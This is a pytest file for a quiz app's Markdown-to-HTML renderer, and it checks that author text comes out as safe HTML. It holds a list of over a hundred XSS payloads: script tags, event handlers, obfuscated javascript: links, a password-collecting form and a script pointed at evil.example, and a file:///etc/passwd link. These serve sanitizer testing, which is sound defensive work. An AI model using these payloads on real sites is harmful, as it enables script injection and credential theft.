"""Author's text becomes calm HTML, whatever is tried in it."""

from html.parser import HTMLParser

import pytest

from quizapp.content.prose import ProseError, _Parsers, _rendered, render, render_inline, render_scenario
from quizapp.model.diagnostics import Span
from quizapp.model.formats import CURRENT_FORMAT, FORMAT_1, FORMATS, Format
from quizapp.model.prose import Prose
from quizapp.model.scenario import Block, Choice, Continue, Outcome, Passage, Scenario

IN_FORMAT_1 = {"p", "em", "strong", "ul", "ol", "li", "blockquote", "a", "code", "br", "hr"}
ALLOWED = {1: IN_FORMAT_1, 2: IN_FORMAT_1 | {"table", "thead", "tbody", "tr", "th", "td"}}
SCHEMES = {1: ("http://", "https://", "mailto:"), 2: ("http://", "https://", "mailto:", "tel:", "sms:")}

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext></p><style><!--</style><img src onerror=alert(1)>--></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<body onload=alert(1)>",
    "<div style=\"background:url('javascript:alert(1)')\">",
    "<div onclick=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<form id=csrf_token><input name=attributes></form>",
    "<button formaction=javascript:alert(1)>Continue</button>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://nspcc.org.uk' onclick=alert(1) target=_blank style=x class=y id=z>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](#passage)",
    "[x](\\\\evil.example)",
    "[x](https://a.example' onmouseover='alert(1))",
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<https://a.example onclick=alert(1)>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "# Heading {: onclick=alert(1)}",
    "x{: onclick=alert(1) style=color:red}",
    "*x*{: #csrf_token .govuk-button}",
    "<p markdown=1 onclick=alert(1)>*x*</p>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02klzzwxh:0\x03<script>",
    "\x02wzxhzdk:0\x03 <https://a.example> <b onclick=x>",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
    "- <script>\n- alert(1)\n- </script>",
    "**<img src=x onerror=alert(1)>**",
    "{{<script>}} {{safeguarding-lead}} {{7*7}}",
    "<a\nhref=javascript:alert(1)\n>x</a>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "| a | <b onclick=alert(1)> |\n|:--|--:|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
    '| a" onclick="alert(1) | b |\n|:-:|---|\n| \' | " |',
    "<table><tr><td style=x onclick=alert(1)>a</td></tr></table>",
    "[x](tel:javascript:alert(1))",
    "[x](TEL:1%22onclick=alert(1))",
    "[x](sms:1?body=<script>)",
    "<tel:1>",
    "a\\\n<script>\\\nalert(1)</script>",
    "{{a}}\"'<b>'\"{{b}}",
]


class _Walls(HTMLParser):
    """Collects what is not allowed in a piece of HTML."""

    def __init__(self, format: Format) -> None:
        super().__init__(convert_charrefs=True)
        self.breaches: list[str] = []
        self.tags, self.schemes = ALLOWED[format.number], SCHEMES[format.number]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.breaches.append(tag)
        for name, value in attrs:
            link = tag == "a" and name == "href" and str(value).lower().startswith(self.schemes)
            if not (link or (tag == "a" and (name, value) == ("rel", "noopener"))):
                self.breaches.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.breaches.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.breaches.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.breaches.append(f"instruction {data}")


def breaches(html: str, format: Format = CURRENT_FORMAT) -> list[str]:
    walls = _Walls(format)
    walls.feed(html)
    walls.close()
    return walls.breaches


def test_there_are_enough_vectors_to_mean_something() -> None:
    assert len(set(VECTORS)) >= 90


@pytest.mark.parametrize("text", VECTORS)
@pytest.mark.parametrize("around", ["{}", "> {}", "- a {}\n    - b", "before **{}** after", "[{}](https://a.example)"])
def test_only_allowed_tags_attributes_and_schemes_come_out(text: str, around: str) -> None:
    whole = around.replace("{}", text)
    for format in FORMATS:
        assert breaches(render(whole, format), format) == []
        assert breaches(render_inline(whole, format), format) == []


def test_plain_writing_comes_out_as_a_writer_means_it() -> None:
    html = render('She said **nothing** and *left*.\n\n- one\n- two\n\n1. first\n2. second\n\n> "Fine."\n\n---')
    assert "<strong>nothing</strong>" in html
    assert "<em>left</em>" in html
    assert html.count("<li>") == 4
    assert "<blockquote>" in html
    assert "<hr>" in html


def test_a_link_keeps_its_address_and_loses_everything_else() -> None:
    assert render_inline('[NSPCC](https://nspcc.org.uk "a title")') == (
        '<a href="https://nspcc.org.uk" rel="noopener">NSPCC</a>'
    )
    assert render_inline("[us](mailto:help@example.org)") == '<a href="mailto:help@example.org" rel="noopener">us</a>'


def test_a_number_to_dial_is_a_link_from_format_2_on() -> None:
    assert render_inline("[Ring](tel:08088005000)") == '<a href="tel:08088005000" rel="noopener">Ring</a>'
    assert render_inline("[Text](sms:85258)") == '<a href="sms:85258" rel="noopener">Text</a>'
    assert render_inline("[Ring](tel:08088005000)", FORMAT_1) == '<a rel="noopener">Ring</a>'


@pytest.mark.parametrize("end", ["\\", "  "])
def test_a_line_that_ends_in_a_backslash_or_two_spaces_breaks(end: str) -> None:
    assert render(f"Good morning,{end}\nit is Sam.") == "<p>Good morning,<br>\nit is Sam.</p>"
    assert render(f"> Ann: so{end}\n> Bo: no") == ("<blockquote>\n<p>Ann: so<br>\nBo: no</p>\n</blockquote>")


def test_a_backslash_breaks_only_at_the_end_of_a_line_and_only_once() -> None:
    assert render("a \\ b") == "<p>a \\ b</p>"
    assert render("a\\\\\nb") == "<p>a\\\nb</p>"
    assert render("a\\\n\nb\\") == "<p>a</p>\n<p>b</p>"


def test_format_1_shows_a_backslash_as_it_stands_and_a_table_as_its_lines() -> None:
    assert render("a\\\nb", FORMAT_1) == "<p>a\\\nb</p>"
    assert render("| a | b |\n|---|---|\n| 1 | 2 |", FORMAT_1) == "<p>| a | b |\n|---|---|\n| 1 | 2 |</p>"


@pytest.mark.parametrize("rule", ["|---|---|", "|:--|--:|", "| :-: | --- |"])
@pytest.mark.parametrize("above", ["", "So it was:\n", "So it was:\n\n"])
def test_a_table_with_headings_is_a_table_and_no_more_than_that(rule: str, above: str) -> None:
    html = render(f"{above}| Day | *Who* |\n{rule}\n| Mon | {{{{escalation}}}} \\| I |\n| Tue |")
    cells = [line for line in html.split("\n") if line.startswith(("<th", "<td"))]
    assert [line for line in cells if not line.startswith("<thead>")] == [
        "<th>Day</th>",
        "<th><em>Who</em></th>",
        "<td>Mon</td>",
        "<td>{{escalation}} | I</td>",
        "<td>Tue</td>",
        "<td></td>",
    ]
    assert html.startswith("<p>So it was:</p>\n<table>" if above else "<table>")


def test_bars_without_headings_are_no_table() -> None:
    assert "<table>" not in render("| Mon | so |\n| Tue | no |")
    assert "<table>" not in render_inline("| Day | Who |\n|---|---|\n| Mon | I |")


def test_inline_text_has_no_breaks() -> None:
    assert render_inline("Wait\\\nand see\\") == "Wait and see"
    assert render_inline("Wait\\\nand see\\", FORMAT_1) == "Wait\\ and see\\"


def test_html_that_an_author_typed_is_shown_as_typed() -> None:
    assert render("a <b>bold</b> idea") == "<p>a &lt;b&gt;bold&lt;/b&gt; idea</p>"


def test_a_paragraph_that_is_indented_by_accident_is_still_a_paragraph() -> None:
    assert render("    It rains.") == "<p>It rains.</p>"


def test_inserts_stay_as_they_are_until_the_page_is_shown() -> None:
    assert render("Tell {{safeguarding-lead}} today.") == "<p>Tell {{safeguarding-lead}} today.</p>"


def test_inline_text_opens_no_block_and_is_one_line() -> None:
    assert render_inline("1. Wait\n  and *see*") == "1. Wait and <em>see</em>"
    assert render_inline("- a") == "- a"
    assert render_inline("# a") == "# a"


@pytest.mark.parametrize("text", ["1. " * 2000, "1) > " * 2000, "> 1. " * 2000])
def test_lists_nested_without_end_are_a_plain_error_or_plain_text(text: str) -> None:
    try:
        assert breaches(render(text)) == []
    except ProseError as problem:
        assert "inside each other" in str(problem)


def test_lists_nested_too_deeply_are_a_plain_error() -> None:
    with pytest.raises(ProseError, match="too many lists or quotes inside each other"):
        render("1. " * 1000)


def prose(slot: str, text: str, line: int = 1) -> Prose:
    return Prose(slot, text, Span("scenarios/m/s.md", line))


def scenario(introduction: str = "A *day*.") -> Scenario:
    span = Span("scenarios/m/s.md", 1)
    start = Passage(
        "start",
        "Start",
        span,
        blocks=(Block(prose("start/0", "One.\n\nTwo.")), Block(prose("start/1", "Three."))),
        choices=(
            Choice(prose("start/choice/0", "Go **on**"), "then", span, span, why=prose("start/why/0", "It *helps*.")),
            Choice(prose("start/choice/1", "Stop"), "end", span, span),
        ),
    )
    then = Passage("then", "Then", span, way_on=Continue(prose("then/continue", "On"), "end", span, span))
    end = Passage("end", "End", span, blocks=(Block(prose("end/0", "Done.")),), outcome=Outcome.SAFER)
    return Scenario(
        module="m",
        id="s",
        title="S",
        span=span,
        you_are="you",
        minutes=5,
        nation="england",
        content_note="none",
        introduction=prose("introduction", introduction, 9),
        passages=(start, then, end),
        debrief=(prose("debrief/0", "Why *so*?"),),
        learning_points=(),
        practices=(),
    )


def test_a_whole_scenario_is_rendered_by_slot() -> None:
    assert render_scenario(scenario()) == {
        "introduction": "<p>A <em>day</em>.</p>",
        "start/0": "<p>One.</p>\n<p>Two.</p>",
        "start/1": "<p>Three.</p>",
        "start/choice/0": "Go <strong>on</strong>",
        "start/why/0": "It <em>helps</em>.",
        "start/choice/1": "Stop",
        "then/continue": "On",
        "end/0": "<p>Done.</p>",
        "debrief/0": "Why <em>so</em>?",
    }


def test_what_cannot_be_rendered_is_reported_at_its_place() -> None:
    with pytest.raises(ProseError) as caught:
        render_scenario(scenario("1. " * 1000))
    assert caught.value.span == Span("scenarios/m/s.md", 9)


def test_pieces_that_are_rendered_one_after_another_are_as_each_alone() -> None:
    texts = (
        "A *day*",
        "[one](https://a.example)",
        "a\n\n- b\n\n    c",
        "| a |\n| - |\n| b |",
        "> To: Ann\n>\n> Hello",
        "`x`",
        "*a",
    )
    pieces = [(prose(f"p/{n}", text), n % 2 == 0) for n, text in enumerate(texts * 2)]
    alone = {piece.slot: (render_inline if inline else render)(piece.text) for piece, inline in pieces}
    assert _rendered(pieces, CURRENT_FORMAT) == alone


def test_a_parser_that_stopped_in_the_middle_is_not_used_again() -> None:
    parsers = _Parsers(CURRENT_FORMAT)
    with pytest.raises(ProseError):
        parsers.converted("1. " * 1000)
    assert parsers.converted("1. one\n\n    more") == _Parsers(CURRENT_FORMAT).converted("1. one\n\n    more")
